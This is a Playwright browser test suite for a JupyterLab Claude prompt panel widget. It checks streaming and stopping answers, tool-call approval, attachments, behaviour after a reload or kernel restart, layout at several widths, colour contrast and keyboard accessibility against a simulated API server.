"""Panels in JupyterLab, in a browser, with a server over real sockets."""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path
from typing import Protocol

import nbformat
import pytest
from endless import COMPUTE, endless_answer, wait_until
from lab_server import API_KEY, NotebookFolder
from notebook_page import NotebookPage
from panel_on_page import PanelOnPage
from playwright.sync_api import expect
from test_rendering import CONTRAST

from claude_magic.simulator import Gate, Simulator, hold, reply

MAKE = "from claude_magic import PromptPanel\npanel = PromptPanel()\npanel"
MAKE_WITH_TOOL = """
def tide_table(port: str) -> str:
    "Give the times of high water."
    return f"06:12 and 18:40 at {port}"
from claude_magic import PromptPanel
panel = PromptPanel(tools=[tide_table])
panel"""
WITHOUT_KEY = """
import os
os.environ.pop("ANTHROPIC_API_KEY"), os.environ.pop("ANTHROPIC_BASE_URL")
os.environ["CLAUDE_MAGIC_DEMO"] = "off"
"""
LONG = "All about sums of powers, please."
EXPLAIN = "Explain the central limit theorem to someone who knows what a mean is."


class OpenWith(Protocol):
    """Opens a notebook with these cells in a fresh page."""

    def __call__(self, *sources: str, theme: str = "Light", width: int = 1200) -> NotebookPage: ...


@pytest.fixture(scope="module")
def variables() -> dict[str, str]:
    """Kernels that wait a while before they try again, so that there is a countdown."""
    return {"CLAUDE_MAGIC_INITIAL_BACKOFF": "4"}


@pytest.fixture
def open_with(
    open_notebook: Callable[..., NotebookPage],
    folder: NotebookFolder,
    sim: Simulator,
    request: pytest.FixtureRequest,
) -> OpenWith:
    """Return a function that opens a notebook with these cells."""
    sim.clear()

    def open_notebook_with(*sources: str, theme: str = "Light", width: int = 1200) -> NotebookPage:
        cells = [nbformat.v4.new_code_cell(source) for source in sources]
        name = re.sub(r"\W+", "-", request.node.name)
        return open_notebook(folder.write_notebook(f"{name}.ipynb", cells), theme=theme, width=width)

    return open_notebook_with


def panel_in(notebook: NotebookPage, cell: int = 0) -> PanelOnPage:
    """Run a cell that shows a panel. Return the panel."""
    notebook.run_cell(cell)
    return shown_panel(notebook, cell)


def shown_panel(notebook: NotebookPage, cell: int = 0) -> PanelOnPage:
    """Return the panel that a cell shows."""
    panel = PanelOnPage(notebook.output(cell).get_by_role("region", name="Claude panel"))
    expect(panel.prompt).to_be_visible()
    return panel


def ask_for_long(panel: PanelOnPage, sim: Simulator, prompt: str = LONG) -> None:
    """Ask for an endless answer, and wait for its beginning."""
    sim.script(endless_answer())
    panel.ask(prompt)
    expect(panel.answers.last.locator("h1").first).to_be_visible()


def test_a_typed_question_is_answered_while_it_streams(open_with: OpenWith, sim: Simulator) -> None:
    """The keyboard shortcut sends without running the cell. The answer grows.

    The file contains panel and transcript, but no key.
    """
    notebook = open_with(MAKE)
    panel = panel_in(notebook)

    gate = Gate()
    sim.script(hold(gate, after_deltas=60))
    panel.ask(EXPLAIN)
    expect(panel.answers.locator("h1, h2, h3").first).to_be_visible()
    half_way = panel.answer_length()
    notebook.screenshot("panel-half-way")
    gate.open()
    panel.expect_answers(1)
    at_the_end = panel.answer_length()
    notebook.screenshot("panel-end")

    assert half_way < at_the_end
    expect(panel.answers.locator("mjx-container").first).to_be_visible()
    expect(panel.footers).to_contain_text(re.compile(r"\d+\stokens\sin\s·\s\d+\sout\s·\s\$"))
    expect(panel.prompt).to_have_value("")
    expect(notebook.cell(0).locator(".jp-InputPrompt").first).to_have_text("[1]:")
    expect(notebook.output(0).locator(".claude-magic-transcript")).to_have_count(1)
    outputs = notebook.saved().cells[0].outputs
    assert "application/vnd.jupyter.widget-view+json" in outputs[0].data
    assert "68.3" in outputs[1].data["text/markdown"]
    assert set(outputs[1].data) == {"text/html", "text/markdown"}
    assert API_KEY not in Path(notebook.path).read_text(encoding="utf-8")


def test_a_panel_streams_and_stops_while_a_cell_computes(open_with: OpenWith, sim: Simulator) -> None:
    """A question is sent, streams and is stopped while a cell keeps the main thread busy.

    The partial answer is kept.
    """
    notebook = open_with(MAKE, COMPUTE)
    panel = panel_in(notebook)

    notebook.start_cell(1)
    notebook.expect_running(1)
    ask_for_long(panel, sim)
    panel.expect_growth()
    panel.button("Stop").click()
    expect(panel.footers).to_contain_text("Interrupted")
    notebook.screenshot("panel-stopped-while-a-cell-computes")

    notebook.expect_running(1)
    wait_until(lambda: sim.requests[-1].client_gone)
    expect(panel.button("Send")).to_be_enabled()
    expect(panel.answers.locator("h1").first).to_be_visible()
    notebook.interrupt()
    notebook.wait_until_idle()


def test_stop_acts_although_it_moves_away_between_press_and_release(
    open_with: OpenWith, sim: Simulator
) -> None:
    """A growing answer moves the button. If it moves between press and release, the browser sends no click."""
    notebook = open_with(MAKE)
    panel = panel_in(notebook)
    ask_for_long(panel, sim)

    notebook.press(panel.button("Stop"))
    panel.prompt.hover()
    notebook.page.mouse.up()

    panel.expect_answers(1)
    wait_until(lambda: sim.requests[-1].client_gone)


def test_a_retry_is_shown_with_its_countdown(open_with: OpenWith) -> None:
    """The reason, the remaining time and the attempt are shown in the place of the answer."""
    notebook = open_with(MAKE)
    panel = panel_in(notebook)
    notebook.watch_for(r"overloaded.*retrying in \d+ s.*attempt 2 of 4")

    panel.ask("!simulate overloaded_once\nSay exactly: here again")
    notebook.expect_seen()
    notebook.screenshot("panel-retrying")
    panel.expect_answers(1)

    expect(panel.answers).to_contain_text("here again")
    expect(panel.answers).not_to_contain_text("retrying in")


def test_two_panels_stream_at_once_each_in_its_own_conversation(open_with: OpenWith, sim: Simulator) -> None:
    """Neither waits for the other, and the questions of one are not sent by the other."""
    notebook = open_with(MAKE, MAKE)
    panels = [panel_in(notebook, 0), panel_in(notebook, 1)]

    for panel in panels:
        ask_for_long(panel, sim)
    for panel in panels:
        panel.expect_growth()
    notebook.screenshot("two-panels")
    for panel in panels:
        panel.button("Stop").click()
        panel.expect_answers(1)
    panels[1].ask("What did I ask before?")
    panels[1].expect_answers(2)

    assert [len(request.body["messages"]) for request in sim.requests[-3:]] == [1, 1, 3]


def test_an_answer_can_be_copied_moved_named_and_asked_for_again(open_with: OpenWith, sim: Simulator) -> None:
    """Each button does what its label says, and confirms it."""
    notebook = open_with(MAKE, "print(mean_code.phase.name, len(mean_code) > 20, len(panel.replies))")
    notebook.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    panel = panel_in(notebook)
    panel.ask("Write a python function for the mean.")
    panel.expect_answers(1)

    panel.button("Copy").click()
    expect(panel.note).to_have_text("Copied.")
    copied = notebook.page.evaluate("navigator.clipboard.readText()")
    panel.button("Variable").click()
    panel.root.get_by_placeholder("name, then Enter").fill("mean_code")
    panel.root.get_by_placeholder("name, then Enter").press("Enter")
    expect(panel.note).to_have_text("mean_code is this answer now.")
    panel.button("New cell").click()
    expect(panel.note).to_have_text("Inserted below.")
    expect(notebook.cell(1).locator(".cm-content")).to_contain_text("def mean")
    notebook.screenshot("panel-actions")
    panel.button("Retry").click()
    panel.expect_answers(1)
    notebook.run_cell(2)

    assert "def mean" in copied
    expect(notebook.output(2)).to_have_text("COMPLETE True 1")
    assert [len(request.body["messages"]) for request in sim.requests[-2:]] == [1, 1]


def test_files_and_variables_go_with_a_question(open_with: OpenWith, sim: Simulator, tmp_path: Path) -> None:
    """Attachments are sent before the prompt, listed above the answer, and sent only once."""
    poem = tmp_path / "poem.txt"
    poem.write_text("Shall I compare thee to a summer's day?")
    notebook = open_with(MAKE, "rows = {'mean': 4.25}")
    panel = panel_in(notebook)
    notebook.run_cell(1)

    panel.button("Attach").click()
    with notebook.page.expect_file_chooser() as chooser:
        panel.root.get_by_text("Files (0)").click()
    chooser.value.set_files(poem)
    expect(panel.root.get_by_text("Files (1)")).to_be_visible()
    panel.root.get_by_placeholder("variables to send: df, figure").fill("rows")
    notebook.screenshot("panel-attaching")
    panel.ask("The mean is {{ rows['mean'] }}. What is this?")
    panel.expect_answers(1)
    notebook.screenshot("panel-attached")
    panel.ask("And this?")
    panel.expect_answers(2)

    first, second = sim.requests[-2:]
    sent = "".join(block["text"] for block in first.body["messages"][0]["content"])
    assert "summer's day" in sent
    assert "'mean': 4.25" in sent
    assert sent.endswith("The mean is 4.25. What is this?")
    expect(panel.root.get_by_text("Attached: poem.txt · rows")).to_be_visible()
    assert second.body["messages"][-1]["content"] in ("And this?", [{"type": "text", "text": "And this?"}])


def test_a_reloaded_page_shows_the_panel_as_it_was_and_goes_on(open_with: OpenWith, sim: Simulator) -> None:
    """The kernel keeps the finished answer, the streaming one, and the settings."""
    notebook = open_with(MAKE)
    panel = panel_in(notebook)
    panel.ask("Say exactly: before the reload")
    panel.expect_answers(1)
    panel.button("Settings").click()
    panel.root.get_by_label("Effort").select_option("low")
    notebook.saved()
    ask_for_long(panel, sim)

    notebook.open()
    panel = shown_panel(notebook)
    expect(panel.answers.first).to_contain_text("before the reload")
    panel.expect_growth(1)
    panel.button("Stop").click()
    expect(panel.footers.nth(1)).to_contain_text("Interrupted")
    notebook.screenshot("panel-reloaded")

    expect(panel.root.get_by_label("Effort")).to_have_value("low")


def test_answers_that_come_after_a_reload_are_saved_too(open_with: OpenWith, sim: Simulator) -> None:
    """Each answer once and in order, including those that ended without an open page; cleared ones are not saved."""
    notebook = open_with(MAKE)
    panel = panel_in(notebook)
    panel.ask("Say exactly: the first")
    panel.expect_answers(1)
    notebook.saved()
    sim.script(endless_answer())
    panel.ask(f"{LONG} Then stop.")
    wait_until(lambda: len(sim.requests) == 2)
    notebook.open()
    panel = shown_panel(notebook)
    panel.button("Stop").click()
    panel.expect_answers(2, last="Interrupted")
    panel.ask("Say exactly: the third")
    panel.expect_answers(3)
    transcript = notebook.output(0).locator(".claude-magic-transcript")
    expect(transcript).to_have_count(3)
    expect(transcript.first).to_be_hidden()

    kept = [output.data["text/markdown"] for output in notebook.saved().cells[0].outputs[1:]]
    panel.button("Clear").click()
    expect(transcript).to_have_count(0)

    assert len(kept) == 3
    assert "the first" in kept[0]
    assert "Then stop" in kept[1]
    assert "the third" in kept[2]
    assert "the third" not in str(notebook.saved().cells[0].outputs)


def test_a_tool_runs_once_a_button_allows_it(open_with: OpenWith, sim: Simulator) -> None:
    """The question is below the call. The call waits for a busy cell, and its result is sent to Claude."""
    notebook = open_with(MAKE_WITH_TOOL, COMPUTE)
    panel = panel_in(notebook)

    panel.ask('Use tide_table for port "Brest"')
    expect(panel.button("Allow")).to_be_visible()
    expect(panel.root).to_contain_text("Claude wants to run tide_table(port='Brest')")
    notebook.screenshot("panel-asking")
    notebook.start_cell(1)
    panel.button("Allow").click()
    expect(panel.answers).to_contain_text("waiting for the kernel, a cell is running")
    expect(panel.button("Allow")).to_have_count(0)
    notebook.screenshot("panel-tool-waiting")
    notebook.interrupt()
    panel.expect_answers(1)
    notebook.screenshot("panel-tool-done")
    panel.ask('Use tide_table for port "Oslo"')
    panel.button("Deny").click()
    panel.expect_answers(2)

    expect(panel.answers.first).to_contain_text("18:40 at Brest")
    expect(panel.answers.nth(1)).to_contain_text("refused")
    assert "18:40 at Brest" in str(sim.requests[-3].body["messages"][-1]["content"])


def test_keys_in_the_prompt_are_the_panels_own(open_with: OpenWith, sim: Simulator) -> None:
    """Enter, with or without Shift, adds a line and runs no cell.

    Escape first stops the answer; only a second Escape leaves the prompt.
    """
    notebook = open_with(MAKE)
    panel = panel_in(notebook)

    panel.prompt.press_sequentially("one")
    panel.prompt.press("Shift+Enter")
    panel.prompt.press_sequentially("two")
    panel.prompt.press("Enter")
    expect(panel.prompt).to_have_value("one\ntwo\n")
    ask_for_long(panel, sim)
    expect(panel.conversation).to_have_attribute("aria-busy", "true")
    panel.prompt.press("Escape")
    expect(panel.footers).to_contain_text("Interrupted")
    expect(panel.conversation).to_have_attribute("aria-busy", "false")

    expect(panel.prompt).to_be_focused()
    expect(notebook.cell(0).locator(".jp-InputPrompt").first).to_have_text("[1]:")
    expect(notebook.page.locator(".jp-Notebook .jp-Cell")).to_have_count(1)


def test_send_and_stop_keep_the_keyboard_where_it_is(open_with: OpenWith, sim: Simulator) -> None:
    """The buttons replace each other, and the focus stays in the panel."""
    sim.script(endless_answer())
    notebook = open_with(MAKE)
    panel = panel_in(notebook)
    panel.prompt.fill(LONG)

    panel.button("Send").press("Enter")
    expect(panel.button("Stop")).to_be_focused()
    expect(panel.button("Send")).to_have_count(0)
    panel.button("Stop").press("Enter")

    expect(panel.button("Send")).to_be_focused()
    expect(panel.button("Stop")).to_have_count(0)


def test_without_a_key_a_panel_says_what_to_do(open_with: OpenWith) -> None:
    """The prompt stays, so that it can be sent again."""
    notebook = open_with(WITHOUT_KEY + MAKE)
    panel = panel_in(notebook)

    panel.ask("Hello")
    expect(panel.note).to_contain_text("ANTHROPIC_API_KEY")
    notebook.screenshot("panel-without-key")

    expect(panel.prompt).to_have_value("Hello")
    expect(panel.button("Send")).to_be_visible()


def test_an_error_goes_with_the_text_that_it_is_about(open_with: OpenWith, sim: Simulator) -> None:
    """As soon as a field is edited, not with the next question. It comes back if the text is still wrong."""
    notebook = open_with("df = [1, 2]\n" + MAKE)
    panel = panel_in(notebook)

    for _ in range(2):
        panel.ask("Sum {{ len(dff) }}.")
        expect(panel.note).to_contain_text("dff")
        panel.prompt.press("End")
        panel.prompt.press("Backspace")
        expect(panel.note).to_have_text("")
    panel.ask("Sum {{ len(df) }}.")
    panel.expect_answers(1)
    panel.button("Variable").click()
    name = panel.root.get_by_placeholder("name, then Enter")
    name.fill("df")
    name.press("Enter")
    expect(panel.note).to_have_text("df holds a list: choose another name, or delete it first.")
    name.press("2")
    expect(panel.note).to_have_text("")
    name.press("Enter")
    expect(panel.note).to_have_text("df2 is this answer now.")
    panel.prompt.press("a")

    expect(panel.note).to_have_text("df2 is this answer now.")
    assert len(sim.requests) == 1


def test_a_megabyte_in_the_prompt_is_sent_and_shown_in_part(open_with: OpenWith, sim: Simulator) -> None:
    """The panel keeps its height, and the kernel receives the whole prompt."""
    notebook = open_with(MAKE)
    panel = panel_in(notebook)
    sim.script(reply("That was a lot."))

    panel.ask("word " * 200_000)
    panel.expect_answers(1)
    notebook.screenshot("panel-megabyte")

    assert len(str(sim.requests[-1].body["messages"][0]["content"])) >= 999_000
    expect(panel.root).to_contain_text("more characters")
    assert panel.root.bounding_box()["height"] < 1_000


def test_a_cell_that_is_deleted_or_run_again_while_its_panel_streams_leaves_a_sound_page(
    open_with: OpenWith, sim: Simulator
) -> None:
    """The kernel continues, nothing is printed elsewhere, and the next panel works."""
    notebook = open_with(MAKE, MAKE)
    ask_for_long(panel_in(notebook, 0), sim)
    ask_for_long(panel_in(notebook, 1), sim)

    panel = panel_in(notebook, 1)
    notebook.cell(0).locator(".jp-InputPrompt").first.click()
    notebook.execute("notebook:delete-cell")
    panel = shown_panel(notebook, 0)
    panel.ask("Say exactly: still here")
    panel.expect_answers(1)

    expect(panel.answers).to_contain_text("still here")
    assert notebook.page.locator("[data-mime-type='application/vnd.jupyter.stderr']").count() == 0


def test_a_panel_in_two_cells_is_one_panel(open_with: OpenWith, sim: Simulator) -> None:
    """Both cells show the same. Closing the panel removes both views, and the transcript stays."""
    notebook = open_with(MAKE, "panel", "panel.close()")
    panels = [panel_in(notebook, 0), panel_in(notebook, 1)]

    panels[0].ask("Say exactly: in both")
    for panel in panels:
        panel.expect_answers(1)
        expect(panel.answers).to_contain_text("in both")
    ask_for_long(panels[1], sim)
    expect(panels[0].answers.nth(1).locator("h1").first).to_be_visible()
    notebook.run_cell(2)

    expect(notebook.page.locator(".claude-magic-panel")).to_have_count(0)
    expect(notebook.output(1).locator(".claude-magic-transcript").first).to_be_visible()
    notebook.screenshot("panel-closed")


def test_a_notebook_without_its_kernel_still_shows_what_was_said(open_with: OpenWith) -> None:
    """The transcript is hidden while the panel is alive, and shown otherwise."""
    notebook = open_with(MAKE)
    panel = panel_in(notebook)
    panel.ask(EXPLAIN)
    panel.expect_answers(1)
    transcript = notebook.output(0).locator(".claude-magic-transcript")
    expect(transcript).to_have_count(1)
    expect(transcript).to_be_hidden()
    notebook.saved()

    notebook.execute("kernelmenu:shutdown")
    notebook.open()

    expect(transcript).to_be_visible()
    expect(transcript).to_contain_text(EXPLAIN)
    expect(transcript.locator("mjx-container").first).to_be_visible()
    notebook.screenshot("panel-without-kernel")


def test_another_thread_shows_its_own_turns_and_the_file_holds_both(open_with: OpenWith) -> None:
    """The panel shows what Claude sees. In the file, a line says where the other thread begins."""
    notebook = open_with("%load_ext claude_magic", "%claude Say exactly: one", MAKE)
    for cell in (0, 1):
        notebook.run_cell(cell)
    panel = panel_in(notebook, 2)
    panel.ask("Say exactly: of the panel")
    panel.expect_answers(1)
    panel.button("Settings").click()
    thread = panel.root.get_by_label("Thread")

    thread.fill("main")
    thread.press("Tab")
    expect(panel.root.locator(".claude-magic-heading")).to_have_text("main · claude-sonnet-5-5")
    expect(panel.conversation.get_by_text("main · 1 earlier turn")).to_be_visible()
    expect(panel.answers).to_have_count(0)
    notebook.screenshot("panel-other-thread")
    panel.ask("Say exactly: two")
    panel.expect_answers(1)
    transcript = notebook.output(2).locator(".claude-magic-transcript")
    expect(transcript).to_have_count(2)
    notebook.saved()
    notebook.execute("kernelmenu:shutdown")
    notebook.open()

    expect(transcript.first).to_contain_text("Say exactly: of the panel")
    expect(transcript.last).to_contain_text("Above: thread panel-1. From here on: thread main.")
    expect(transcript.last).to_contain_text("Say exactly: two")
    notebook.screenshot("panel-other-thread-reopened")


@pytest.mark.parametrize("theme", ["Light", "Dark"])
@pytest.mark.parametrize("width", [600, 1600])
def test_a_panel_fits_its_place_and_its_theme(open_with: OpenWith, theme: str, width: int) -> None:
    """Nothing overflows at either width, and all text is readable in both themes."""
    notebook = open_with(MAKE, theme=theme, width=width)
    if width < 800:
        notebook.execute("application:toggle-left-area")
    panel = panel_in(notebook)
    panel.ask(EXPLAIN)
    panel.expect_answers(1)
    panel.ask("Write a python function for the mean.")
    panel.expect_answers(2)
    panel.button("Settings").click()
    expect(panel.root.get_by_label("Model")).to_be_visible()
    notebook.screenshot(f"panel-{theme.lower()}-{width}")
    # A name that is cut can be that of another model.
    usual = panel.root.get_by_label("Model")
    assert usual.evaluate(ROOM_FOR, usual.get_attribute("placeholder")) >= 0

    excess = panel.root.evaluate(
        """root => [...root.querySelectorAll("button, textarea, input, select, .claude-magic-footer")]
            .filter(node => node.offsetParent)
            .map(node => [node, node.getBoundingClientRect(), root.getBoundingClientRect()])
            .filter(([node, own, all]) => own.right > all.right + 1 || own.left < all.left - 1)
            .map(([node]) => node.outerHTML.slice(0, 200))"""
    )
    words = {
        "question": panel.root.locator(".claude-magic-exchange > div").first.locator("div").last,
        "answer": panel.answers.first.locator("p:visible").last,
        "footer": panel.footers.first.locator("div", has_text="tokens in").last,
        "action": panel.button("Copy").first,
        "unfold": panel.button("Attach"),
        "limiter": panel.root.locator(".claude-magic-limiter div", has_text="requests a second").last,
        "send": panel.button("Send"),
        "label": panel.root.get_by_text("Max tokens", exact=True),
    }
    contrast = {name: word.evaluate(CONTRAST) for name, word in words.items()}
    assert excess == []
    assert {name: ratio for name, ratio in contrast.items() if ratio < 4.0} == {}


ROOM_FOR = """(input, text) => {
    const style = getComputedStyle(input), context = document.createElement("canvas").getContext("2d");
    context.font = style.font;
    const inside = input.clientWidth - parseFloat(style.paddingLeft) - parseFloat(style.paddingRight);
    return inside - 24 - context.measureText(text).width;  // 24 for the arrow of the list
}"""


WIDE = r"""# The_measurements_of_the_second_station_in_the_north_of_the_country_and_of_all_others_in_one_word

$$ f(x) = a_0 + a_1 x + a_2 x^2 + a_3 x^3 + a_4 x^4 + a_5 x^5 + a_6 x^6 + a_7 x^7 + a_8 x^8 + a_9 x^9 + a_{10} x^{10} $$

In a line $f(x) = a_0 + a_1 x + a_2 x^2 + a_3 x^3 + a_4 x^4 + a_5 x^5 + a_6 x^6 + a_7 x^7 + a_8 x^8 + a_9 x^9 + a_{10} x^{10}$
with `/home/user/a_long_name_of_a_folder/another_long_name_of_a_folder/and_the_measurements_of_the_station.parquet` and
https://example.org/a/long/address/that/does/not/end/before/the/margin/of/the/page/and/then/goes/on/and/on.html.

| Method | Assumptions | Sample size | Interpretation | Software | Reference |
|---|---|---|---|---|---|
| t-test | normality | 12,345.6789 | differences | statsmodels | https://example.org/a/long/address |

```python
def a_long_name_of_a_function(the_first_of_its_arguments, the_second_of_its_arguments, the_third_of_them): ...
```
"""
OUT_OF_REACH = """answer => [...answer.querySelectorAll("h1, p, p code, p a, table, pre code, mjx-container")].filter(node => {
    let [least, most] = [node.getBoundingClientRect().left, node.getBoundingClientRect().right];
    for (let box = node; box !== answer.parentElement; box = box.parentElement) {
        const {left, right} = box.getBoundingClientRect();
        if (most <= right + 1 && least >= left - 1) continue;
        if (!["auto", "scroll"].includes(getComputedStyle(box).overflowX)) continue;
        [least, most] = [left, right];
    }
    const {left, right} = answer.getBoundingClientRect();
    return most > right + 1 || least < left - 1;
}).map(node => node.outerHTML.slice(0, 200))"""


@pytest.mark.parametrize("width", [600, 1200])
def test_what_is_too_wide_for_a_panel_can_be_reached(open_with: OpenWith, sim: Simulator, width: int) -> None:
    """Long words break; formulas, tables and code scroll."""
    notebook = open_with(MAKE, width=width)
    if width < 800:
        notebook.execute("application:toggle-left-area")
    panel = panel_in(notebook)
    sim.script(reply(WIDE))
    panel.ask("Something wide, please.")
    panel.expect_answers(1)
    expect(panel.answers.first.locator("mjx-container")).to_have_count(2)
    notebook.screenshot(f"panel-wide-{width}")

    assert panel.answers.first.evaluate(OUT_OF_REACH) == []


@pytest.mark.parametrize("width", [700, 1600])
def test_the_buttons_of_all_answers_are_in_line(open_with: OpenWith, sim: Simulator, width: int) -> None:
    """Beside or below the last line of the footer, also if there are warnings above it."""
    notebook = open_with(MAKE, width=width)
    if width < 800:
        notebook.execute("application:toggle-left-area")
    panel = panel_in(notebook)
    panel.ask("Say exactly: one")
    panel.expect_answers(1)
    panel.ask("!simulate max_tokens\nTell me of tides.")
    panel.expect_answers(2)
    expect(panel.footers.last).to_contain_text("Raise Max tokens in the settings and press Retry")
    ask_for_long(panel, sim)
    panel.button("Stop").click()
    expect(panel.footers.last).to_contain_text("Interrupted")
    panel.ask("!simulate close_mid_stream\nTell me more of them.")
    panel.expect_answers(4, last="The connection broke")
    expect(panel.root.get_by_role("button", name="Retry")).to_have_count(4)
    notebook.screenshot(f"panel-warnings-{width}")

    places = panel.root.locator(".claude-magic-foot").evaluate_all(
        """feet => feet.map(foot => {
            const own = foot.getBoundingClientRect(), row = foot.querySelector(".claude-magic-actions").getBoundingClientRect();
            const facts = foot.querySelector(".claude-magic-footer").getBoundingClientRect();
            const beside = [own.right - row.right, row.bottom - facts.bottom], below = [row.left - own.left, row.top - facts.bottom];
            return (own.width > 800 ? beside : below).map(Math.round);
        })"""
    )
    assert [place == places[0] for place in places] == [True] * 4, places


@pytest.mark.parametrize("name", ["Attach", "Settings"])
def test_what_a_button_unfolds_is_in_sight(open_with: OpenWith, name: str) -> None:
    """Also if the button is at the window's lower edge."""
    notebook = open_with(MAKE)
    panel = panel_in(notebook)
    notebook.page.set_viewport_size({"width": 1200, "height": 500})
    panel.button(name).evaluate("button => button.scrollIntoView({ block: 'end' })")
    row = panel.root.locator(f".claude-magic-{'settings' if name == 'Settings' else 'attachments'}")

    panel.button(name).click()

    expect(row).to_be_in_viewport(ratio=0.99)


def test_the_keyboard_reaches_everything_in_the_order_of_sight(open_with: OpenWith) -> None:
    """Tab moves from the prompt to the buttons and the settings; each has an accessible name."""
    notebook = open_with(MAKE)
    panel = panel_in(notebook)
    expect(panel.button("Settings")).to_have_attribute("aria-expanded", "false")
    panel.button("Attach").press("Enter")
    panel.button("Settings").press("Enter")
    expect(panel.root.get_by_label("Model")).to_be_visible()
    expect(panel.button("Settings")).to_have_attribute("aria-expanded", "true")

    cut = "labels => labels.filter(each => each.scrollWidth > each.clientWidth).map(each => each.textContent)"
    assert panel.root.locator(".claude-magic-settings .widget-label").evaluate_all(cut) == []
    panel.prompt.focus()
    names = []
    for _ in range(12):
        notebook.page.keyboard.press("Tab")
        names.append(notebook.page.evaluate(NAME_OF_FOCUSED))

    assert names == [
        "Send",
        "Attach",
        "Settings",
        "Clear",
        "Files (0)",
        "Variables to send",
        "Model",
        "Effort",
        "Thinking",
        "Max tokens",
        "Thread",
        "System prompt",
    ]


NAME_OF_FOCUSED = """() => {
    const node = document.activeElement;
    return node.getAttribute("aria-label") || node.labels?.[0]?.textContent || node.textContent;
}"""


@pytest.mark.parametrize(("theme", "width"), [("Light", 1600), ("Dark", 700)])
def test_a_panel_on_the_thread_of_cells_shows_their_turns_folded(
    open_with: OpenWith, theme: str, width: int
) -> None:
    """Below a line with thread and model. They can be expanded."""
    notebook = open_with(
        "%load_ext claude_magic",
        "%claude Say exactly: one",
        f"%claude {EXPLAIN}",
        "%claude panel main",
        theme=theme,
        width=width,
    )
    for cell in range(4):
        notebook.run_cell(cell)
    panel = shown_panel(notebook, 3)
    earlier = panel.conversation.get_by_text("main · 2 earlier turns")
    expect(panel.root.locator(".claude-magic-heading")).to_have_text("main · claude-sonnet-5-5")
    expect(earlier).to_be_visible()
    expect(panel.conversation.get_by_text("Say exactly: one")).to_be_hidden()
    panel.root.scroll_into_view_if_needed()
    notebook.screenshot(f"panel-earlier-{theme.lower()}-{width}")

    earlier.click()
    expect(panel.conversation.get_by_text("Say exactly: one")).to_be_visible()
    expect(panel.conversation.locator("mjx-container").first).to_be_visible()
    panel.ask("Say exactly: three")
    panel.expect_answers(1)
    notebook.screenshot(f"panel-earlier-unfolded-{theme.lower()}-{width}")

    expect(earlier).to_be_visible()


def test_a_screen_reader_hears_who_speaks_and_what_a_button_is_about(open_with: OpenWith) -> None:
    """By the accessibility tree: each question with its answer, and the buttons of each answer with its number."""
    notebook = open_with(MAKE)
    panel = panel_in(notebook)
    for number, word in enumerate(["first", "second"], start=1):
        panel.ask(f"Say exactly: the {word}")
        panel.expect_answers(number)

    for number, word in enumerate(["first", "second"], start=1):
        turn = panel.conversation.get_by_role("article", name=f"Question {number} and its answer", exact=True)
        expect(turn.get_by_role("group", name="You asked")).to_contain_text(f"Say exactly: the {word}")
        expect(turn.get_by_role("group", name="Claude answered")).to_contain_text(f"the {word}")
        actions = turn.get_by_role("group", name=f"Answer {number}", exact=True)
        expect(actions.get_by_role("button")).to_have_text(["Copy", "New cell", "Variable", "Retry"])


def test_the_keyboard_reaches_the_question_about_a_tool_before_stop(open_with: OpenWith) -> None:
    """The approval question comes first, and its label contains the number of the answer."""
    notebook = open_with(MAKE_WITH_TOOL)
    panel = panel_in(notebook)
    panel.ask('Use tide_table for port "Brest"')
    asked = panel.root.get_by_role("group", name="May this tool run for answer 1?")
    expect(asked.get_by_role("button")).to_have_text(["Allow", "Deny", "Allow all"])

    panel.conversation.focus()
    names = []
    while "Stop" not in names and len(names) < 20:
        notebook.page.keyboard.press("Tab")
        names.append(notebook.page.evaluate(NAME_OF_FOCUSED))

    assert names[-5:] == ["Allow", "Deny", "Allow all", "Prompt for Claude", "Stop"]
    panel.button("Deny").click()
    panel.expect_answers(1)


DISCONNECTED_ICONS = """root => [root, ...root.querySelectorAll(".jupyter-widgets-disconnected")].filter(node =>
    node.checkVisibility() && !["none", "normal"].includes(getComputedStyle(node, "::before").content)).length"""
RESTART = (
    "async () => { await window.jupyterapp.shell.currentWidget.sessionContext.session.kernel.restart(); }"
)


ADVICE = "The kernel was restarted. To go on with this conversation, save the notebook, run `%claude load notebook` "
NAMED = "in a new cell, and then run this cell again. Without it, this cell starts a new one."
UNNAMED = "and then `%claude panel panel-1` in new cells. Running this cell again starts a new one."


def test_the_advice_after_a_restart_leads_back_to_the_conversation(open_with: OpenWith) -> None:
    """The cell names its thread, so running it again opens the thread that was loaded."""
    notebook = open_with("%claude panel ideas", "%claude load notebook", "%load_ext claude_magic")
    notebook.run_cell(2)
    notebook.run_cell(0)
    panel = shown_panel(notebook)
    panel.ask("Say exactly: before the end")
    panel.expect_answers(1)
    expect(notebook.output(0).locator(".claude-magic-transcript")).to_have_count(1)

    notebook.page.evaluate(RESTART)
    expect(panel.root.locator(".claude-magic-lost-line")).to_have_text(ADVICE + NAMED)
    notebook.saved()
    notebook.wait_until_idle()
    # Execution numbers start again, so `run_cell` would wait for a change in vain.
    notebook.start_cell(2)
    notebook.start_cell(1)
    expect(notebook.output(1)).to_contain_text("Loaded from")
    notebook.start_cell(0)

    expect(shown_panel(notebook).root.locator(".claude-magic-earlier")).to_contain_text("before the end")


@pytest.mark.parametrize("how", ["restart", "crash"])
def test_a_panel_without_its_kernel_can_be_read_and_says_what_to_do(
    open_with: OpenWith, sim: Simulator, how: str
) -> None:
    """Partial answers stay as well, and controls without effect are hidden."""
    notebook = open_with(MAKE, "import os\nos._exit(1)")
    panel = panel_in(notebook)
    panel.ask("Say exactly: before the end")
    panel.expect_answers(1)
    ask_for_long(panel, sim)
    expect(panel.conversation).to_contain_text("Sentence 0 of many.")

    if how == "restart":
        notebook.page.evaluate(RESTART)
    else:
        notebook.start_cell(1)
    expect(panel.root.locator(".claude-magic-lost-line")).to_have_text(ADVICE + UNNAMED)
    if how == "crash":
        notebook.page.get_by_role("button", name="Ok", exact=True).click()
    notebook.wait_until_still()
    notebook.screenshot(f"panel-after-{how}")

    expect(panel.conversation).to_contain_text("before the end")
    expect(panel.conversation).to_contain_text("Sentence 0 of many.")
    expect(panel.root.get_by_role("button")).to_have_count(0)
    expect(panel.prompt).to_be_hidden()
    assert panel.root.evaluate(DISCONNECTED_ICONS) == 0
    notebook.wait_until_idle()
    notebook.start_cell(0)
    again = shown_panel(notebook)
    again.ask("Say exactly: here again")
    again.expect_answers(1)


SCROLLERS = """view => [view, ...view.querySelectorAll("*")].filter(node => node.scrollHeight > node.clientHeight + 1
    && ["auto", "scroll"].includes(getComputedStyle(node).overflowY)).map(node => node.className)"""


